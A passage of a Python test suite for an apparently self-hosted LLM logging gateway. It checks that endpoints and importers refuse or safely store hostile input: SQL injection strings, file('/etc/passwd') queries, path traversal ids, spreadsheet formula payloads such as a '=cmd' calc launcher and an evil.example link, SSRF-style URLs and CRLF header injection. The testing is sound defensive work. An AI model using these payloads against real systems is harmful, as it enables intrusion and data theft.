    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    await still_logs(heliograph)


async def test_bounds_of_query_ids_inputs_and_the_new_metrics(heliograph: Heliograph) -> None:
    cases: list[tuple[str, str, Any]] = [
        ("POST", "/v1/request/query-ids", {"requestIds": [str(uuid.uuid4())] * 1001}),
        ("POST", "/v1/request/query-ids", {"requestIds": ["not-a-uuid"]}),
        ("POST", "/v1/request/query-ids", {"requestIds": ["\ud800"]}),
        ("POST", "/v1/request/query-ids", {"requestIds": "x"}),
        ("GET", "/v1/request/not-a-uuid/inputs", None),
        ("POST", "/v1/property/properties/over-time", {"timeFilter": WINDOW, "propertyKey": ""}),
        (
            "POST",
            "/v1/property/properties/over-time",
            {
                "timeFilter": {"start": "1970-01-01T00:00:00Z", "end": "2199-01-01T00:00:00Z"},
                "propertyKey": "k",
                "dbIncrement": "min",
            },
        ),
        (
            "POST",
            "/v1/property/properties/over-time",
            {"timeFilter": WINDOW, "propertyKey": "k", "timeZoneDifference": 10**9},
        ),
        ("POST", "/v1/user/metrics-overview/query", {"pSize": "p100"}),
        ("POST", "/v1/user/metrics-overview/query", {"filter": {"nope": {"equals": 1}}}),
    ]
    for method, path, body in cases:
        status, answer = await call(heliograph, method, path, body)
        assert 400 <= status < 500, (path, str(body)[:100], status, answer)
    # Strings an SQL builder might splice: answered, as data.
    for key in ("k') OR 1=1 --", "k\u0000", "k\ud800", "`k`", "k" * 500):
        body = {"timeFilter": WINDOW, "propertyKey": key}
        status, answer = await call(heliograph, "POST", "/v1/property/properties/over-time", body)
        assert status < 500, (key[:20], status, answer)
    status, answer = await call(heliograph, "POST", "/v1/request/query-ids", {"requestIds": []})
    assert (status, answer["data"]) == (200, [])
    await still_logs(heliograph)


# Saved queries


async def test_saved_queries_pass_the_console_gate_and_refuse_what_cannot_be_stored(
    heliograph: Heliograph,
) -> None:
    path = "/v1/helicone-sql/saved-query"
    refused = [
        {"name": "drop", "sql": "DROP TABLE request_response"},
        {"name": "insert", "sql": "INSERT INTO request_response VALUES (1)"},
        {"name": "system", "sql": "SELECT * FROM system.users"},
        {"name": "two", "sql": "SELECT 1; DROP TABLE request_response"},
        {"name": "file", "sql": "SELECT * FROM file('/etc/passwd')"},
        {"name": "url", "sql": "SELECT * FROM url('http://127.0.0.1:1/', CSV, 'a String')"},
        {"name": "settings", "sql": "SELECT 1 SETTINGS readonly = 0"},
        {"name": "n\u0000ul", "sql": "SELECT 1"},
        {"name": "\ud800", "sql": "SELECT 1"},
        {"name": "   ", "sql": "SELECT 1"},
        {"name": "n" * 201, "sql": "SELECT 1"},
        {"name": "blank", "sql": "   "},
        {"name": "huge", "sql": "SELECT '" + "x" * (65 * 1024) + "'"},
        {"name": "extra", "sql": "SELECT 1", "organization_id": str(uuid.uuid4())},
    ]
    for body in refused:
        status, answer = await call(heliograph, "POST", path, body)
        assert 400 <= status < 500, (str(body)[:80], status, answer)
    status, answer = await call(
        heliograph, "POST", path, {"name": "ok", "sql": "SELECT count() FROM request_response"}
    )
    assert status == 201, answer
    query_id = answer["data"][0]["id"]
    for body in refused[:7]:
        status, answer = await call(heliograph, "PUT", f"{path}/{query_id}", body)
        assert 400 <= status < 500, (body, status, answer)
    status, answer = await call(
        heliograph, "PUT", f"{path}/{query_id}", {"id": "other", "name": "x", "sql": "SELECT 1"}
    )
    assert status == 400
    for bad_id in ("q" * 65, "%00", "..%2F..%2Fv1%2Faudit"):
        status, _ = await call(heliograph, "GET", f"{path}/{bad_id}")
        assert 400 <= status < 500, bad_id
    too_many = {"ids": ["x"] * 501}
    status, _ = await call(
        heliograph, "POST", "/v1/helicone-sql/saved-queries/bulk-delete", too_many
    )
    assert 400 <= status < 500
    status, listed = await call(heliograph, "GET", "/v1/helicone-sql/saved-queries")
    assert [q["name"] for q in listed["data"]] == ["ok"]
    await still_logs(heliograph)


async def test_a_lone_surrogate_inside_saved_sql_is_a_4xx(heliograph: Heliograph) -> None:
    """A string literal holding a lone surrogate must not reach the app DB, which cannot store
    it (held: refused before it is saved)."""
    path = "/v1/helicone-sql/saved-query"
    body = {"name": "surrogate", "sql": "SELECT '\ud800' AS x"}
    status, answer = await call(heliograph, "POST", path, body)
    assert 400 <= status < 500, (status, answer)
    status, made = await call(heliograph, "POST", path, {"name": "ok", "sql": "SELECT 1"})
    assert status == 201, made
    status, answer = await call(heliograph, "PUT", f"{path}/{made['data'][0]['id']}", body)
    assert 400 <= status < 500, (status, answer)
    await still_logs(heliograph)


# Price overrides


async def test_price_overrides_refuse_hostile_numbers_and_strings(heliograph: Heliograph) -> None:
    good = {"model": "gpt-attack", "input_per_mtok": "1", "output_per_mtok": "2"}
    refused: list[dict[str, Any]] = [
        {**good, "input_per_mtok": "-1"},
        {**good, "input_per_mtok": -0.5},
        {**good, "input_per_mtok": "NaN"},
        {**good, "input_per_mtok": "Infinity"},
        {**good, "input_per_mtok": "-Infinity"},
        {**good, "input_per_mtok": 1e308},
        {**good, "input_per_mtok": "1e308"},
        {**good, "input_per_mtok": "1e-20"},
        {**good, "input_per_mtok": "1" * 65},
        {**good, "input_per_mtok": "abc"},
        {**good, "input_per_mtok": True},
        {**good, "input_per_mtok": None},
        {**good, "input_per_mtok": [1]},
        {**good, "per_request": "1001"},
        {**good, "cache_read_per_mtok": "-0.1"},
        {**good, "model": ""},
        {**good, "model": "   "},
        {**good, "model": "gpt\u0000"},
        {**good, "model": "g*pt"},
        {**good, "model": "m" * 257},
        {**good, "provider": "p" * 65},
        {**good, "provider": "p\u0000"},
        {**good, "organization_id": str(uuid.uuid4())},
    ]
    for body in refused:
        status, answer = await call(heliograph, "POST", "/v1/price-overrides", body)
        assert 400 <= status < 500, (str(body)[:100], status, answer)
    for raw in (
        b'{"model": "m", "input_per_mtok": NaN, "output_per_mtok": 1}',
        b'{"model": "m", "input_per_mtok": Infinity, "output_per_mtok": 1}',
    ):
        status, answer = await send(
            f"{heliograph.api}/v1/price-overrides",
            data=raw,
            headers={**JSON, **heliograph.auth()},
        )
        assert 400 <= status < 500, (raw, status, answer)

    sql_model = "gpt'); DROP TABLE request_response; --"
    status, made = await call(
        heliograph, "POST", "/v1/price-overrides", {**good, "model": sql_model}
    )
    assert status == 201, made
    override_id = made["data"]["id"]
    for patch in ({"input_per_mtok": "-1"}, {"model": "a*b"}, {"per_request": "NaN"}):
        status, answer = await call(
            heliograph, "PATCH", f"/v1/price-overrides/{override_id}", patch
        )
        assert 400 <= status < 500, (patch, status, answer)
    for bad_id in ("x" * 5000, "%00", str(uuid.uuid4())):
        status, _ = await call(heliograph, "DELETE", f"/v1/price-overrides/{bad_id}")
        assert 400 <= status < 500, bad_id[:20]

    recompute = "/v1/price-overrides/recompute"
    for body in (
        {"start": "9999-01-01T00:00:00Z", "end": "9999-01-02T00:00:00Z"},
        {"start": "2026-01-02T00:00:00Z", "end": "2026-01-01T00:00:00Z"},
        {"start": "2020-01-01T00:00:00Z", "end": "2026-01-01T00:00:00Z"},
        {**WINDOW, "model": "m\u0000"},
        {**WINDOW, "model": "m" * 257},
        {**WINDOW, "model": "a*b*"},
        {"start": "yesterday", "end": "today"},
    ):
        status, answer = await call(heliograph, "POST", recompute, body)
        assert 400 <= status < 500, (body, status, answer)
    status, answer = await call(heliograph, "POST", recompute, {**WINDOW, "model": sql_model})
    assert status == 200, answer
    status, listed = await call(heliograph, "GET", "/v1/price-overrides")
    assert [o["model"] for o in listed["data"]] == [sql_model.lower()]  # models are lower-cased
    await still_logs(heliograph)


async def test_a_lone_surrogate_in_an_override_model_or_provider_is_a_4xx(
    heliograph: Heliograph,
) -> None:
    """`_model` and `_provider` in `services/prices.py` check NUL themselves; a lone surrogate,
    which no database can store, must be refused before them too (held)."""
    good = {"model": "gpt-attack", "input_per_mtok": "1", "output_per_mtok": "2"}
    for body in ({**good, "model": "gpt\ud800"}, {**good, "provider": "openai\udcff"}):
        status, answer = await call(heliograph, "POST", "/v1/price-overrides", body)
        assert 400 <= status < 500, (status, answer)
    status, answer = await call(
        heliograph, "POST", "/v1/price-overrides/recompute", {**WINDOW, "model": "m\ud800"}
    )
    assert 400 <= status < 500, (status, answer)
    await still_logs(heliograph)


# OTLP export


def test_the_export_endpoint_setting_refuses_odd_urls() -> None:
    for endpoint in (
        "file:///etc/passwd",
        "ftp://collector:21",
        "gopher://127.0.0.1:70",
        "http://",
        "http://:4318",
        "http://collector:0",
        "http://collector:99999",
        "http://collector:port",
        "http://collector:4318/?token=x",
        "http://collector:4318/#frag",
        "http://[::1",
        "collector:4318",
        "javascript:alert(1)",
    ):
        with pytest.raises(InvalidSetting) as refused:
            OtlpConfig.from_settings(endpoint, "")
        assert "HELIOGRAPH_OTLP_ENDPOINT" in str(refused.value)
    assert OtlpConfig.from_settings("   ", "") is None
    for headers in ("a", "=v", "bad name=v", "a=v\r\nx: y", "a=%0d%0ax"):
        with pytest.raises(InvalidSetting) as refused:
            OtlpConfig.from_settings("http://collector:4318", headers)
        assert "v\r\n" not in str(refused.value)
    config = OtlpConfig.from_settings("http://collector:4318/", "Authorization=Bearer%20s3cret")
    assert config is not None
    assert config.url == "http://collector:4318/v1/traces"
    assert "s3cret" not in repr(config)


def test_the_export_endpoint_cannot_name_this_heliograph_in_another_spelling() -> None:
    """Fixed: the loop guard compares URLs as text, so `localhost`, `0.0.0.0` or an
    upper-case scheme for this Heliograph's own API pass it, and every exported span would come
    back as a request to be exported again."""
    own = "http://127.0.0.1:8585"
    with pytest.raises(InvalidSetting):
        OtlpConfig.from_settings(own, "", own)
    for spelling in ("http://localhost:8585", "HTTP://127.0.0.1:8585", "http://0.0.0.0:8585"):
        with pytest.raises(InvalidSetting):
            OtlpConfig.from_settings(spelling, "", own)


async def test_an_export_endpoint_that_never_answers_does_not_hold_up_logging(
    tmp_path: Path, analytics_dir: Path, fake: Fake
) -> None:
    """A collector that takes the connection and never answers: requests are still logged at
    once, and the service stops within its deadline."""
    accepted: list[asyncio.StreamWriter] = []

    async def silent(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        accepted.append(writer)

    sink = await asyncio.start_server(silent, "127.0.0.1", 0)
    port = sink.sockets[0].getsockname()[1]
    settings = heliograph_settings(
        tmp_path, analytics_dir, fake, otlp_endpoint=f"http://127.0.0.1:{port}"
    )
    hg = await start_heliograph(settings)
    try:
        started = time.monotonic()
        for _ in range(3):
            await still_logs(hg)
        assert time.monotonic() - started < 10
    finally:
        stopping = time.monotonic()
        await hg.running.stop()
        assert time.monotonic() - stopping < 20
        for writer in accepted:
            writer.close()
        sink.close()
        await sink.wait_closed()


# Import from Helicone


async def test_importing_another_organizations_key_hash_takes_nothing_from_it(
    heliograph: Heliograph, tmp_path: Path
) -> None:
    victim_id, victim_key = heliograph.new_organization("victim")
    mine = generate_key()
    path = write_keys(
        tmp_path / "keys.csv",
        victim_id,  # the file claims the victim's organization; --org decides
        [
            (victim_key, {"api_key_name": "stolen"}),
            (mine, {"api_key_name": '=HYPERLINK("http://evil.example")'}),
            (mine, {"api_key_name": "duplicate"}),
            ("x", {"api_key_hash": "'; DROP TABLE api_keys; --"}),
            ("y", {"key_permissions": "rwx"}),
        ],
    )
    settings = heliograph.running.services.settings
    command = ["import", "helicone", "--data-dir", str(settings.data_dir), "--keys", str(path)]
    runner = CliRunner(env={"HELIOGRAPH_DATABASE_URL": settings.resolved_database_url})
    result = runner.invoke(cli, [*command, "--org", heliograph.organization_id])
    assert result.exit_code == 0, result.output
    assert "1 belong to another organization" in result.output, result.output
    keys = heliograph.running.services.keys
    names = {k.name for k in keys.list_keys(heliograph.organization_id)}
    assert "stolen" not in names
    # The same hash twice in one file: one key (the later row's name), never two.
    assert names & {'=HYPERLINK("http://evil.example")', "duplicate"} == {"duplicate"}
    assert "stolen" not in {k.name for k in keys.list_keys(victim_id)}
    # The victim's key still logs into the victim's organization, ours into ours.
    for key, organization_id in ((victim_key, victim_id), (mine, heliograph.organization_id)):
        async with (
            aiohttp.ClientSession() as session,
            session.post(
                f"{heliograph.gateway}/openai/v1/chat/completions",
                json=CHAT,
                headers=heliograph.gateway_auth(key),
            ) as response,
        ):
            assert response.status == 200
            logged = response.headers["Helicone-Id"]
        await heliograph.wait_for(logged, key=key)
        other = heliograph.api_key if key == victim_key else victim_key
        assert (await heliograph.api_get(f"/v1/request/{logged}", other))[0] == 404
        requests_of = heliograph.running.services.requests
        assert await requests_of.get(organization_id, logged, False) is not None
    await still_logs(heliograph)


async def test_a_hostile_requests_file_imports_the_good_rows_under_the_given_org_only(
    store: AnalyticsStore, chdb_executor: ChdbExecutor, tmp_path: Path
) -> None:
    rows = requests(20, seed=3)
    write_exports(chdb_executor, rows, tmp_path)
    lines = (tmp_path / "requests.jsonl").read_bytes().splitlines()
    base = orjson.loads(lines[0])
    victim = str(uuid.uuid4())
    hostile = [
        {**base, "request_id": str(uuid.uuid4()), "request_body": "x" * (10 * MIB)},
        {
            **base,
            "request_id": str(uuid.uuid4()),
            "user_id": '=cmd|" /C calc"!A0',
            "properties": {"=SUM(A1)": "+1", "@x": "-2"},
            "model": "gpt'); DROP TABLE request_response; --",
        },
        {**base, "request_id": str(uuid.uuid4()), "organization_id": victim},
        {**base, "request_id": "../../etc/passwd"},
        {**base, "request_id": str(uuid.uuid4()), "prompt_tokens": -5, "cost": -1},
        {**base, "request_id": str(uuid.uuid4()), "request_created_at": "9999-12-31 00:00:00"},
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_bytes(
        b"\n".join([*lines, *(orjson.dumps(row) for row in hostile), b"{not json", lines[0]])
    )
    org = str(uuid.uuid4())
    tally = run_import(store, org, path, tmp_path)
    assert tally.read == 20 + len(hostile) + 2
    assert tally.imported + tally.present + tally.refused + tally.skipped == tally.read
    assert tally.refused >= 2  # the path-like id and the line that is not JSON
    stored = chdb_executor.query(
        "SELECT organization_id, user_id, prompt_tokens, cost, request_created_at"
        " FROM request_response WHERE organization_id IN ({org:UUID}, {victim:UUID})",
        {"org": org, "victim": victim},
    )
    assert {row["organization_id"] for row in stored} == {org}
    assert len(stored) == tally.imported
    assert all(int(row["prompt_tokens"] or 0) >= 0 for row in stored)
    assert all(int(row["cost"]) >= 0 for row in stored)
    assert all(not str(row["request_created_at"]).startswith("9999") for row in stored)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    again = run_import(store, org, path, tmp_path)
    assert again.imported == 0
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
